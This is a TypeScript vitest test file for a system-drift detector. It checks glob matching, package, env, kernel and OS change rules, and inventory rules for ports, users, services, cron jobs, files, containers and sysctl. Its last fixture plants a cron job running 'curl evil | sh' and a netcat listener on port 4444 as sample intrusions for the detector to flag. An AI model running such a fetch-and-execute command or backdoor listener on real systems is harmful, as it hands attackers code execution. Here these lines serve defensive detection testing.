import { describe, expect, it } from "vitest";
import type { SnapshotDiff } from "@/lib/protocol";
import { diffSnapshots } from "@/lib/snapshots/diff";
import { matchDriftRule, matchesGlob, parseDriftConfig } from "./drift";

const diff = (over: Partial<SnapshotDiff> = {}): SnapshotDiff => ({
  packages: { added: [], removed: [], changed: [] },
  env: { added: [], removed: [], changed: [] },
  kernel: null,
  os: null,
  ...over,
});

const upgrade = diff({
  packages: {
    added: [{ name: "nginx", version: "1.22" }, { name: "nginx-common", version: "1.22" }],
    removed: [{ name: "apache2", version: "2.4" }],
    changed: [{ name: "openssl", from: "3.0.11", to: "3.0.13" }],
  },
  env: { added: ["NEW_FLAG"], removed: ["OLD_FLAG"], changed: ["DB_PASSWORD", "PATH"] },
  kernel: { from: "6.1.0-17", to: "6.1.0-18" },
});

describe("globs", () => {
  it.each([
    ["nginx*", "nginx", true],
    ["nginx*", "nginx-common", true],
    ["nginx*", "libnginx", false],
    ["*ssl*", "openssl", true],
    ["python3.1?", "python3.11", true],
    ["python3.1?", "python3x11", false],
    ["libstdc++6", "libstdc++6", true],
    ["a(b)[c]", "a(b)[c]", true],
    ["Nginx", "nginx", false],
    ["*", "", true],
  ])("%s against %s: %s", (glob, text, expected) => expect(matchesGlob(glob, text)).toBe(expected));

  it("matches everything without a pattern", () => expect(matchesGlob(undefined, "anything")).toBe(true));
});

describe("matchDriftRule", () => {
  it("matches packages added, removed or changed by name glob, and describes them", () => {
    expect(matchDriftRule({ target: "packages", pattern: "nginx*" }, upgrade)).toEqual({
      fires: true,
      count: 2,
      description: "packages added nginx 1.22, nginx-common 1.22",
    });
    expect(matchDriftRule({ target: "packages" }, upgrade)).toEqual({
      fires: true,
      count: 4,
      description: "packages added nginx 1.22, nginx-common 1.22; removed apache2 2.4; changed openssl 3.0.11 -> 3.0.13",
    });
  });

  it("narrows to the change kinds a rule names", () => {
    expect(matchDriftRule({ target: "packages", pattern: "nginx*", changes: ["removed"] }, upgrade).fires).toBe(false);
    expect(matchDriftRule({ target: "packages", changes: ["removed"] }, upgrade)).toMatchObject({ fires: true, count: 1, description: "packages removed apache2 2.4" });
  });

  it("does not fire when nothing matches", () => {
    expect(matchDriftRule({ target: "packages", pattern: "postgres*" }, upgrade)).toEqual({ fires: false, count: 0, description: "" });
    expect(matchDriftRule({ target: "kernel" }, diff())).toMatchObject({ fires: false });
    expect(matchDriftRule({ target: "env" }, diff())).toMatchObject({ fires: false });
  });

  it("matches env keys by glob and never mentions values", () => {
    expect(matchDriftRule({ target: "env", pattern: "DB_*" }, upgrade)).toEqual({ fires: true, count: 1, description: "env keys changed DB_PASSWORD" });
    expect(matchDriftRule({ target: "env" }, upgrade).count).toBe(4);
  });

  it("fires on a kernel change, and with a pattern only for a matching new kernel", () => {
    expect(matchDriftRule({ target: "kernel" }, upgrade)).toEqual({ fires: true, count: 1, description: "kernel 6.1.0-17 -> 6.1.0-18" });
    expect(matchDriftRule({ target: "kernel", pattern: "6.1.*" }, upgrade).fires).toBe(true);
    expect(matchDriftRule({ target: "kernel", pattern: "6.2.*" }, upgrade).fires).toBe(false);
    expect(matchDriftRule({ target: "kernel", pattern: "*" }, diff({ kernel: { from: "6.1", to: null } })).fires).toBe(false);
  });

  it("fires on an OS change", () => {
    expect(matchDriftRule({ target: "os" }, diff({ os: { from: null, to: "Debian 12" } }))).toEqual({ fires: true, count: 1, description: "os none -> Debian 12" });
  });

  it("keeps the description short for a large upgrade", () => {
    const changed = Array.from({ length: 300 }, (_, i) => ({ name: `lib${i}`, from: "1", to: "2" }));
    const m = matchDriftRule({ target: "packages" }, diff({ packages: { added: [], removed: [], changed } }));
    expect(m.count).toBe(300);
    expect(m.description).toBe("packages changed lib0 1 -> 2, lib1 1 -> 2, lib2 1 -> 2, lib3 1 -> 2, lib4 1 -> 2 and 295 more");
  });

  it("works on what the diff engine produces", () => {
    const prev = { kernel: "6.1.0-17", packages: [{ name: "openssh-server", version: "9.2" }], env: {} };
    const next = { kernel: "6.1.0-17", packages: [{ name: "openssh-server", version: "9.2p1" }], env: {} };
    expect(matchDriftRule({ target: "packages", pattern: "openssh*" }, diffSnapshots(prev, next))).toMatchObject({ fires: true, count: 1 });
  });
});

describe("parseDriftConfig", () => {
  it("accepts valid configs and rejects the rest", () => {
    expect(parseDriftConfig({ target: "packages", pattern: "nginx*" })).toEqual({ target: "packages", pattern: "nginx*" });
    expect(parseDriftConfig({ target: "env", changes: ["changed"] })).toEqual({ target: "env", changes: ["changed"] });
    expect(parseDriftConfig({ target: "nope" })).toBeNull();
    expect(parseDriftConfig({ target: "packages", pattern: "" })).toBeNull();
    expect(parseDriftConfig({ target: "packages", changes: [] })).toBeNull();
    expect(parseDriftConfig(null)).toBeNull();
    expect(parseDriftConfig({})).toBeNull();
  });
});

describe("drift rules over inventory sections", () => {
  const changed = diffSnapshots(
    {
      packages: [],
      env: {},
      ports: [{ proto: "tcp", address: "0.0.0.0", port: 22, process: "sshd" }],
      users: [{ name: "bob", uid: 1000, gid: 1000, shell: "/bin/bash" }],
      services: [{ unit: "nginx.service", enabled: "enabled", active: "active" }],
      jobs: [],
      files: [{ path: "/etc/ssh/sshd_config", sha256: "a".repeat(64), size: 10, mode: "0644" }],
      containers: [{ id: "1", name: "web", image: "nginx:1", state: "running" }, { id: "2", name: "db", image: "pg:15", state: "running" }],
      sysctl: { "net.ipv4.ip_forward": "0" },
    },
    {
      packages: [],
      env: {},
      ports: [{ proto: "tcp", address: "0.0.0.0", port: 22, process: "sshd" }, { proto: "tcp", address: "0.0.0.0", port: 4444, process: "nc" }],
      users: [{ name: "bob", uid: 1000, gid: 1000, shell: "/bin/zsh" }],
      services: [{ unit: "nginx.service", enabled: "enabled", active: "failed" }],
      jobs: [{ source: "/etc/cron.d/x", schedule: "* * * * *", command: "curl evil | sh" }],
      files: [{ path: "/etc/ssh/sshd_config", sha256: "b".repeat(64), size: 10, mode: "0644" }],
      containers: [{ id: "1", name: "web", image: "nginx:1", state: "running" }],
      sysctl: { "net.ipv4.ip_forward": "1" },
    },
  );

  it.each([
    [{ target: "ports", pattern: "tcp *:4444" }, "listening ports added tcp 0.0.0.0:4444"],
    [{ target: "users", changes: ["changed"] }, "users changed bob (shell)"],
    [{ target: "services", pattern: "nginx*" }, "services changed nginx.service (active)"],
    [{ target: "jobs", pattern: "*curl*" }, "scheduled jobs added /etc/cron.d/x: * * * * * curl evil | sh"],
    [{ target: "files", pattern: "/etc/ssh/*" }, "watched files changed /etc/ssh/sshd_config (sha256)"],
    [{ target: "containers", changes: ["removed"] }, "containers removed db"],
    [{ target: "sysctl", pattern: "net.*" }, "sysctl changed net.ipv4.ip_forward 0 -> 1"],
  ] as const)("%o fires: %s", (config, description) => {
    const rule = parseDriftConfig(config)!;
    expect(rule).not.toBeNull();
    expect(matchDriftRule(rule, changed)).toEqual({ fires: true, count: 1, description });
  });

  it("does not fire for a pattern or a change kind that matches nothing, nor on a diff without the section", () => {
    expect(matchDriftRule(parseDriftConfig({ target: "ports", pattern: "udp *" })!, changed).fires).toBe(false);
    expect(matchDriftRule(parseDriftConfig({ target: "containers", changes: ["added"] })!, changed).fires).toBe(false);
    expect(matchDriftRule(parseDriftConfig({ target: "ports" })!, diff()).fires).toBe(false);
  });
});
